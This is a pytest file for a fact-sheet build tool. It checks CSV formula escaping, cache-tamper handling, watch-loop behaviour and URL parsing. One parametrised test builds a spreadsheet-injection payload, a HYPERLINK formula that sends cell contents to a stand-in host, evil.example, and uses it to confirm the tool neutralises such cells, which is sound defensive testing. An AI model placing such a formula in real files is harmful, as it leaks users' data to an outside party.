"""What the tool writes and reads back under hostile input: the audit CSV cannot carry a
spreadsheet formula, an edited build-cache entry is never trusted, and ``--watch`` with ``-o``
inside the content folder does not rebuild its own output without end."""

from __future__ import annotations

import csv
import io
import json
import threading
import time
from pathlib import Path

import pytest
from conftest import run_cli
from faultlib import CONTENT, FONTS

from factsheet.explain import Entry, as_csv
from factsheet.watch import watch


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"klicka")'
    entry = Entry("13,9", "paragraph 1", "lss.yaml:3", payload, indicator_name=payload)
    rows = list(csv.reader(io.StringIO(as_csv([entry]))))
    assert rows[1][3] == "'" + payload and rows[1][5] == "'" + payload
    assert rows[1][0] == "13,9" and rows[1][2] == "lss.yaml:3"  # other cells as they were


def test_an_edited_cache_entry_is_not_trusted(
    tmp_path: Path,
    national_pdf: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cache = tmp_path / "cache"
    monkeypatch.setenv("FACTSHEET_CACHE", str(cache))
    out = tmp_path / "riket.pdf"
    argv = ("build", "--content", CONTENT, "--fonts", FONTS, "-o", out)
    assert run_cli(capsys, *argv)[0] == 0
    (entry,) = cache.glob("workbook-*.json")
    data = json.loads(entry.read_text(encoding="utf-8"))
    for row in data["rows"]:
        if row[3] is not None:
            row[3] = "NaN"  # as an editor (or a damaged disk) leaves it
    entry.write_text(json.dumps(data), encoding="utf-8")
    code, _, err = run_cli(capsys, *argv)
    assert code == 0, err  # the entry is refused and the workbook read again
    assert out.read_bytes() == national_pdf.read_bytes()
    for row in json.loads(entry.read_text(encoding="utf-8"))["rows"]:
        assert row[3] is None or isinstance(row[3], float)  # and the entry written afresh


def test_watch_does_not_rebuild_for_what_the_build_wrote(tmp_path: Path) -> None:
    content = tmp_path / "content"
    content.mkdir()
    lss = content / "lss.yaml"
    lss.write_text("year: 2021\n", encoding="utf-8")
    calls: list[list[str]] = []

    def rebuild(files: list[Path]) -> None:  # as build -o content/ writes
        calls.append([f.name for f in files])
        (content / "oj-2021-lss-riket.pdf").write_bytes(b"%PDF-" + bytes(len(calls)))
        (content / "manifest.json").write_text(str(len(calls)), encoding="utf-8")

    stop, ready = threading.Event(), threading.Event()
    thread = threading.Thread(
        target=watch, args=([content], rebuild, 0.05, lambda: not stop.is_set(), ready.set)
    )
    thread.start()
    assert ready.wait(5)
    lss.write_text("year: 2022\n", encoding="utf-8")
    time.sleep(1.0)  # twenty polls: each would see the rebuild's own files
    stop.set()
    thread.join(timeout=5)
    assert calls == [["lss.yaml"]]


@pytest.mark.parametrize(
    ("written", "address", "after"),
    [
        ("Se https://example.se/a__b__c nu.", "https://example.se/a__b__c", " nu."),
        ("Se https://example.se/x**y**z nu.", "https://example.se/x**y**z", " nu."),
        (
            "Se https://sv.wikipedia.org/wiki/LSS_(lag).",
            "https://sv.wikipedia.org/wiki/LSS_(lag)",
            ".",
        ),
        ("(se https://example.se/rapport).", "https://example.se/rapport", ")."),
        ("__https://example.se/rapport__ nu", "https://example.se/rapport", " nu"),
    ],
)
def test_an_address_is_printed_and_linked_as_written(
    written: str, address: str, after: str
) -> None:
    from factsheet.resolve.markup import parse

    runs = parse(written, lambda name: [])
    link = next(r for r in runs if r.href)
    assert (link.text, link.href) == (address, address)
    assert runs[-1].text == after
